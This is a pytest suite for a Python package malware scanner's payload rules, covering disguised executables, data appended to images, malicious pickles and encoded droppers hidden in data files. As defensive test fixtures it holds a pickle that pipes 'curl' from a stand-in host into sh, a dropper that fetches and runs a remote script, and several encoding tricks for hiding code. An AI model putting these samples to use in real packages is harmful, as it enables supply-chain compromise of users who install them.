"""Payload rules over bytes built at test time: tiny executables, images with appended data,
crafted pickle opcode streams (never unpickled) and droppers in source."""

from __future__ import annotations

import base64
import io
import pickle
import pickletools
import random
import struct
import zipfile
import zlib

import pytest
from rulekit import ids, package, py, run

from pipvet.analysis.context import FileContext, FileKind
from pipvet.analysis.rules import payloads
from pipvet.models import Severity, Stage

R = payloads.RULES


def blob(path: str, data: bytes, kind: FileKind = FileKind.BINARY) -> FileContext:
    return FileContext(path=path, data=data, kind=kind, stage=Stage.DATA)


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def pe() -> bytes:
    head = bytearray(b"MZ" + b"\0" * 0x7E)
    struct.pack_into("<I", head, 0x3C, 0x80)
    return bytes(head) + b"PE\0\0" + b"\0" * 64


def png(extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    ) + extra


def jpeg(extra: bytes = b"") -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\0\0\x3f\0"
    scan = b"\x12\x34\xff\x00\x56\xff\xd0\x78"  # stuffed 0xFF00 and a restart marker inside the scan
    return b"\xff\xd8" + app0 + sos + scan + b"\xff\xd9" + extra


def gif(extra: bytes = b"") -> bytes:
    header = b"GIF89a" + struct.pack("<HH", 1, 1) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\0" + b"\x02\x02\x44\x01\0"
    return header + image + b"\x3b" + extra


def wav(extra: bytes = b"") -> bytes:
    fmt = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
    data = b"data" + struct.pack("<I", 4) + b"\x80\x80\x80\x80"
    body = b"WAVE" + fmt + data
    return b"RIFF" + struct.pack("<I", len(body)) + body + extra


PAYLOAD = b"import base64;exec(base64.b64decode('cHJpbnQoMSk='))" * 4


def test_native_binary_in_pure_package_is_weak_and_disguised_one_is_high() -> None:
    plain = run(R, blob("pkg/bin/helper.so", ELF), package(pure_python=True))
    assert [f.severity for f in plain] == [Severity.LOW]
    disguised = run(R, blob("pkg/assets/logo.png", pe()), package(pure_python=True))
    assert disguised
    assert disguised[0].severity is Severity.HIGH
    assert "PE" in (disguised[0].evidence or "")
    stealer = ELF + b"\0/etc/hosts\0%s/.gitconfig\0%s/.ssh/\0"
    no_ext = run(R, blob("triton/runtime/triton", stealer), package(pure_python=False))
    assert no_ext
    assert no_ext[0].severity is Severity.HIGH
    assert ".gitconfig" in no_ext[0].message


def test_helper_programs_without_extension_are_how_programs_look() -> None:
    # ELF and Mach-O programs carry no extension: in a platform wheel they are its tools
    assert run(R, blob("torch/bin/protoc", ELF), package(pure_python=False)) == []
    bare = run(R, blob("pkg/common/linux/pkg-manager", ELF), package(pure_python=True))
    assert [f.severity for f in bare] == [Severity.LOW]
    static_libc = ELF + b"\0/etc/passwd\0/etc/hosts\0/etc/resolv.conf\0"
    assert run(R, blob("pkg/common/linux/pkg-manager", static_libc), package(pure_python=False)) == []
    # a Windows program needs .exe to run, so one without it is hiding
    hidden = run(R, blob("pkg/data/update", pe()), package(pure_python=False))
    assert [f.severity for f in hidden] == [Severity.HIGH]


def test_extension_module_in_a_binary_wheel_is_fine() -> None:
    assert (
        run(R, blob("pkg/_speedups.cpython-311-x86_64-linux-gnu.so", ELF), package(pure_python=False)) == []
    )
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 32
    assert run(R, blob("pkg/Lib.class", java), package(pure_python=True)) == []


def test_encoded_executable_in_source() -> None:
    program = base64.b64encode(b"MZ\x90\x00\x03" + bytes(120)).decode()
    bad = py(f"blob = '{program}'\nopen('x.exe','wb').write(blob)\n")
    assert "PV-PAY-ENCODED-EXE" in ids(run(R, bad))
    # split over lines by implicit concatenation, it is still one program
    split = py(f"blob = (\n    '{program[:40]}'\n    '{program[40:]}'\n)\n")
    assert "PV-PAY-ENCODED-EXE" in ids(run(R, split))
    benign = py("TV_SHOWS = ['TVqQ is not here', 'MZ']\n")
    assert run(R, benign) == []
    # the magic number a file-type check compares with holds no program
    header = py(
        "ELF_HEADER = b'\\x7fELF\\x02\\x01'\n\ndef is_elf(data):\n    return data.startswith(ELF_HEADER)\n"
    )
    assert run(R, header) == []


def test_data_appended_to_media() -> None:
    for make, fmt in ((png, "PNG"), (jpeg, "JPEG"), (gif, "GIF"), (wav, "WAVE")):
        clean = run(R, blob(f"pkg/a.{fmt.lower()}", make(), FileKind.MEDIA))
        assert clean == [], fmt
        padded = run(R, blob(f"pkg/a.{fmt.lower()}", make(b"\0" * 100), FileKind.MEDIA))
        assert padded == [], fmt
        bad = run(R, blob(f"pkg/a.{fmt.lower()}", make(PAYLOAD), FileKind.MEDIA))
        assert len(bad) == 1, fmt
        assert bad[0].rule == "PV-PAY-MEDIA"
        assert bad[0].severity is Severity.HIGH
        assert fmt in (bad[0].evidence or "")


def test_a_jpeg_carrying_more_jpegs_is_one_picture_but_what_follows_them_is_not() -> None:
    """Multi-picture files and HDR gain maps put whole JPEGs (XMP metadata with its http
    namespaces included) after the first; the second ends with the file's last two bytes."""
    packet = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta/>"
    xmp = b"\xff\xe1" + struct.pack(">H", 2 + len(packet)) + packet
    second = jpeg()[:2] + xmp + jpeg()[2:]
    assert run(R, blob("pkg/sky.jpg", jpeg(second), FileKind.MEDIA)) == []
    assert run(R, blob("pkg/sky.jpg", jpeg(second + second), FileKind.MEDIA)) == []
    found = run(R, blob("pkg/sky.jpg", jpeg(second + PAYLOAD), FileKind.MEDIA))
    assert [(f.rule, f.severity) for f in found] == [("PV-PAY-MEDIA", Severity.HIGH)]


def test_stale_tail_of_an_overwritten_image_is_low_unless_it_carries_code() -> None:
    """An editor that rewrites an image in place without truncating leaves the old file's end,
    which closes like the format does; a payload that closes the same way but holds a program
    or script stays high."""
    noise = bytes(random.Random(4).randrange(256) for _ in range(3000))
    for make, fmt in ((png, "PNG"), (jpeg, "JPEG"), (gif, "GIF")):
        closing = make()[-12:]
        stale = run(R, blob(f"pkg/a.{fmt.lower()}", make(noise + closing), FileKind.MEDIA))
        assert [(f.rule, f.severity) for f in stale] == [("PV-PAY-MEDIA", Severity.LOW)], fmt
        assert "overwritten in place" in stale[0].message
        for hostile in (pe() + noise + closing, b"exec(" + noise + closing):
            found = run(R, blob(f"pkg/a.{fmt.lower()}", make(hostile), FileKind.MEDIA))
            assert [f.severity for f in found] == [Severity.HIGH], fmt


def test_dangerous_pickle_global_and_reduce() -> None:
    # protocol 2, GLOBAL 'os system', a one-tuple argument, REDUCE, STOP
    evil = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00echo\x85R."
    found = run(R, blob("pkg/model.pkl", evil, FileKind.PICKLE))
    assert found
    assert found[0].severity is Severity.CRITICAL
    assert "os.system" in (found[0].evidence or "")
    # protocol 4, STACK_GLOBAL built from memoised strings
    stacked = b"\x80\x04\x8c\x08builtins\x94\x8c\x04eval\x94\x93\x8c\x031+1\x94\x85\x94R\x94."
    assert [op.name for op, _, _ in pickletools.genops(stacked)][-3:] == ["REDUCE", "MEMOIZE", "STOP"]
    found = run(R, blob("pkg/weights.bin", stacked))
    assert found
    assert "builtins.eval" in (found[0].evidence or "")


def test_ordinary_pickles_and_torch_zip() -> None:
    from collections import OrderedDict

    benign = pickle.dumps({"weights": [1.0, 2.0], "order": OrderedDict(a=1)}, protocol=4)
    assert run(R, blob("pkg/model.pkl", benign, FileKind.PICKLE)) == []
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", b"\x80\x02csubprocess\nPopen\nX\x02\x00\x00\x00id\x85R.")
    found = run(R, blob("pkg/model.pt", buf.getvalue()))
    assert found
    assert "subprocess.Popen" in (found[0].evidence or "")


def test_foreign_runtime_dropper() -> None:
    bad = py(
        "import subprocess, urllib.request\n"
        "BUN = 'https://github.com/oven-sh/bun/releases/latest/download/bun.zip'\n"
        "urllib.request.urlretrieve(BUN, 'b.zip')\n"
        "subprocess.Popen(['bun', 'run', 'payload.js'])\n"
    )
    found = [f for f in run(R, bad) if f.rule == "PV-PAY-JSRUNTIME"]
    assert found
    assert found[0].severity is Severity.HIGH
    benign = py("NODE_HELP = 'install node to build the docs'\n")
    assert run(R, benign) == []
    obfuscated = blob("pkg/ui/x.js", (b"var _0xab12=['a'];" * 300) + b" " * 1_000_000, FileKind.TEXT)
    found = run(R, obfuscated)
    assert found
    assert found[0].severity is Severity.MEDIUM
    bundle = blob("pkg/static/app.js", b"function f(a){return a}\n" * 50_000, FileKind.TEXT)
    assert all(f.severity is Severity.INFO for f in run(R, bundle))


def test_code_running_its_own_media_file() -> None:
    bad = py(
        "import wave, base64\n"
        "w = wave.open(__file__.replace('__init__.py', 'hangup.wav'))\n"
        "exec(base64.b64decode(w.readframes(w.getnframes())))\n"
    )
    assert "PV-PAY-OWNDATA" in ids(run(R, bad))
    benign = py(
        "import setuptools\n"
        "exec(open('pkg/version.py').read())\n"
        "setuptools.setup(long_description=open('README.txt').read())\n",
        stage=Stage.INSTALL,
    )
    assert "PV-PAY-OWNDATA" not in ids(run(R, benign))
    # an image reader at one end of a big module and an expression evaluator at the other
    far_apart = py(
        "import base64\nfrom PIL import Image\n"
        "def thumbnail(path):\n    return Image.open(path).tobytes()\n"
        + "\n" * 200
        + "def evaluate(expr, env):\n    return eval(expr, env)\n"
    )
    assert "PV-PAY-OWNDATA" not in ids(run(R, far_apart))


def _pyc(*names: bytes) -> bytes:
    """A ``.pyc`` header and a code-object-like body holding ``names`` (never unmarshalled)."""
    return b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"".join(b"\xda" + bytes([len(n)]) + n for n in names)


def test_compiled_python_without_its_source_is_reported_by_what_it_names() -> None:
    init = py("from . import core\n", path="acme/__init__.py")
    pkg = package(
        members=("acme/__init__.py", "acme/core.pyc", "acme/util.pyc", "acme/util.py"),
        sources=(("acme/__init__.py", init.text),),
    )
    stealer = blob("acme/core.pyc", _pyc(b"requests", b"post", b"https://x.invalid/c", b".ssh/"))
    found = run(R, stealer, pkg)
    assert [(f.rule, f.severity, f.stage) for f in found] == [
        ("PV-PAY-BYTECODE", Severity.CRITICAL, Stage.IMPORT)
    ]
    assert "requests" in (found[0].evidence or "")
    plain = blob("acme/core.pyc", _pyc(b"sum", b"len"))
    assert [(f.severity, f.stage) for f in run(R, plain, pkg)] == [(Severity.HIGH, Stage.IMPORT)]
    unimported = blob("acme/other.pyc", _pyc(b"sum"))
    assert [(f.severity, f.stage) for f in run(R, unimported, pkg)] == [(Severity.MEDIUM, Stage.RUNTIME)]
    # a compiled copy of a shipped source, and a stale cache of a deleted test, are no secret code
    assert run(R, blob("acme/util.pyc", _pyc(b"requests", b"exec", b"https://x")), pkg) == []
    assert run(R, blob("tests/__pycache__/test_a.cpython-312.pyc", _pyc(b"sum", b"exec")), pkg) == []
    cached = blob("acme/__pycache__/gone.cpython-312.pyc", _pyc(b"socket", b"system"))
    assert [(f.severity, f.stage) for f in run(R, cached, pkg)] == [(Severity.HIGH, Stage.RUNTIME)]
    assert run(R, blob("acme/data.pyc", b"not bytecode at all"), pkg) == []


def test_a_py_file_holding_bytecode_is_compiled_code_in_disguise() -> None:
    from pipvet.analysis.context import FileContext, FileKind

    disguised = FileContext(
        path="acme/engine.py", data=_pyc(b"socket", b"system"), kind=FileKind.PYTHON, stage=Stage.INSTALL
    )
    found = run(R, disguised)
    assert [(f.rule, f.severity) for f in found] == [("PV-PAY-BYTECODE", Severity.CRITICAL)]
    assert "system" in (found[0].evidence or "")
    runtime = FileContext(path="acme/engine.py", data=_pyc(b"sum"), kind=FileKind.PYTHON, stage=Stage.RUNTIME)
    assert [f.severity for f in run(R, runtime)] == [Severity.HIGH]
    # hidden code that runs commands or reaches the network: the disguise and the capability
    reaching = FileContext(
        path="acme/engine.py", data=_pyc(b"exec", b"urlopen"), kind=FileKind.PYTHON, stage=Stage.RUNTIME
    )
    assert [f.severity for f in run(R, reaching)] == [Severity.CRITICAL]
    # source whose first line is two characters and a Windows line break is source
    source = b"[]\r\n" + b"x = 1\r\n" * 4
    assert run(R, FileContext(path="acme/a.py", data=source, kind=FileKind.PYTHON, stage=Stage.RUNTIME)) == []


class _Boom:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("curl -s http://x.invalid/a | sh",))


def test_a_pickle_kept_in_the_source_and_unpickled_is_read_as_a_pickle() -> None:
    import base64

    stream = pickle.dumps(_Boom(), protocol=2)
    for literal in (repr(stream), f"base64.b64decode({base64.b64encode(stream).decode()!r})"):
        source = f"import base64, pickle\npickle.loads({literal})\n"
        found = [f for f in run(R, py(source, path="acme/__init__.py")) if f.rule == "PV-PAY-PICKLE"]
        assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)], literal
        assert "posix.system" in found[0].message or "os.system" in found[0].message
    harmless = pickle.dumps({"a": [1, 2]}, protocol=2)
    assert "PV-PAY-PICKLE" not in ids(run(R, py(f"import pickle\nDEFAULTS = pickle.loads({harmless!r})\n")))


DROPPER = (
    "import os, subprocess, tempfile, urllib.request\n"
    "p = os.path.join(tempfile.gettempdir(), 'u.py')\n"
    "open(p, 'wb').write(urllib.request.urlopen('http://203.0.113.7/s').read())\n"
    "subprocess.Popen(['python', p], start_new_session=True)\n"
)
TABLE = "import math\n\n\ndef area(r):\n    return math.pi * r * r\n" * 3


def _dictionary(payload: str, *, squeeze: bool = False) -> str:
    """A word-frequency JSON with one extra key holding ``payload`` base64-encoded."""
    import base64
    import json

    raw = payload.encode()
    encoded = base64.b64encode(zlib.compress(raw) if squeeze else raw).decode()
    words = {f"word{i}": i for i in range(40)}
    return json.dumps({**words, "spellchecker": encoded}, indent=1)


def test_a_program_hidden_in_a_data_file_is_read_as_code() -> None:
    import gzip

    plain = blob("pkg/resources/eu.json", _dictionary(DROPPER).encode(), FileKind.TEXT)
    found = [f for f in run(R, plain) if f.rule == "PV-PAY-HIDDEN-CODE"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert found[0].line == 42  # the key's line in the JSON
    assert "PV-DL-002" in found[0].message
    assert found[0].evidence is not None
    assert "subprocess.Popen" in found[0].evidence
    # zlib inside the base64, and the whole file gzipped (spellcheckerpy's eu.json.gz)
    packed = blob("pkg/resources/eu.json.gz", gzip.compress(_dictionary(DROPPER, squeeze=True).encode()))
    found = [f for f in run(R, packed) if f.rule == "PV-PAY-HIDDEN-CODE"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert found[0].line is None
    assert "compressed" in found[0].message
    # reversed, as loaders that run ``b64decode(blob[::-1])`` keep it
    backwards = _dictionary(DROPPER).replace('"spellchecker": "', '"k": "')
    encoded = backwards.rsplit('"k": "', 1)[1].split('"', 1)[0]
    backwards = backwards.replace(encoded, encoded[::-1])
    found = run(R, blob("pkg/r.json", backwards.encode(), FileKind.TEXT))
    assert [f.severity for f in found if f.rule == "PV-PAY-HIDDEN-CODE"] == [Severity.CRITICAL]
    # hex digits (also base64 letters) are read as hex
    spelled = blob("pkg/data/x.txt", ("key = " + DROPPER.encode().hex() + "\n").encode(), FileKind.TEXT)
    assert [f.severity for f in run(R, spelled) if f.rule == "PV-PAY-HIDDEN-CODE"] == [Severity.CRITICAL]


def test_harmless_encoded_code_images_and_broken_streams_in_data_are_not_reported() -> None:
    import base64
    import gzip
    import json

    icon = base64.b64encode(png(b"\0" * 200)).decode()
    cases = [
        blob("pkg/data/table.json", _dictionary(TABLE).encode(), FileKind.TEXT),  # code, nothing risky
        blob("pkg/data/icons.json", json.dumps({"icon": icon}).encode()),
        blob("pkg/data/words.txt", ("A" * 400 + "\n").encode(), FileKind.TEXT),  # decodes to zeros
        blob("pkg/data/broken.gz", b"\x1f\x8b" + b"\0" * 300),  # a gzip header, no stream
        blob("pkg/data/huge.json.gz", gzip.compress(b" " * (9 << 20))),  # grows past the bound
    ]
    for file in cases:
        assert "PV-PAY-HIDDEN-CODE" not in ids(run(R, file)), file.path


def test_base64_runs_are_found_whole_with_their_padding() -> None:
    long_run, short = b"Q" * 100 + b"==", b"R" * 95
    data = b'{"a": "' + long_run + b'", "b": "' + short + b'"}\n' + b"x/+9" * 30
    assert list(payloads._runs(data)) == [(7, long_run), (len(data) - 120, b"x/+9" * 30)]
    assert list(payloads._runs(b"S" * 96 + b"===")) == [(0, b"S" * 96 + b"==")]
    assert list(payloads._runs(short)) == []


def test_base64_wrapped_over_lines_is_read_as_one_block() -> None:
    """``base64.encodebytes`` and MIME write 76 letters a line, none long enough for a run."""
    import base64

    wrapped = base64.encodebytes(DROPPER.encode())
    indented = b"".join(b"  " + line + b"\n" for line in wrapped.splitlines())
    for text in (b"# notes\n" + wrapped + b"end\n", b"banner: |\n" + indented + b"colors:\n  a: b\n"):
        found = [
            f for f in run(R, blob("pkg/data/x.yaml", text, FileKind.TEXT)) if f.rule == "PV-PAY-HIDDEN-CODE"
        ]
        assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 2)]
    # lines that share their line with other text, and a lone short line, are no block
    assert list(payloads._wrapped_blocks(b"key: " + b"Q" * 76 + b"\nvalue\n")) == []
    assert list(payloads._wrapped_blocks(b"Q" * 76 + b"\n")) == []


def test_the_programs_of_one_data_file_are_read_within_a_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file stuffed with encoded programs costs at most twice the largest one in reading."""
    import base64

    monkeypatch.setattr(payloads, "_HIDDEN_MAX_DECODED", len(DROPPER) + 10)
    line = base64.b64encode(DROPPER.encode()).decode()
    stuffed = blob("pkg/data/many.txt", "\n".join([line] * 10).encode(), FileKind.TEXT)
    found = [f for f in run(R, stuffed) if f.rule == "PV-PAY-HIDDEN-CODE"]
    assert [f.line for f in found] == [1, 2]


def test_a_program_setup_py_starts_is_critical_when_disguised_high_when_named_plainly() -> None:
    """The engine gives a shipped file the stage of the code that runs it; a Windows program
    kept as ``svc.dat`` and started while pip installs runs hidden, a plainly named one is a
    build step's shape (and in a package with compiled code, one of its tools)."""
    disguised = FileContext(path="pkg/svc.dat", data=pe(), kind=FileKind.BINARY, stage=Stage.INSTALL)
    named = FileContext(path="pkg/tool.exe", data=pe(), kind=FileKind.BINARY, stage=Stage.INSTALL)
    assert [f.severity for f in run(R, disguised, package(pure_python=True))] == [Severity.CRITICAL]
    assert [f.severity for f in run(R, named, package(pure_python=True))] == [Severity.HIGH]
    assert run(R, named, package(pure_python=False)) == []  # a package with compiled code's tool
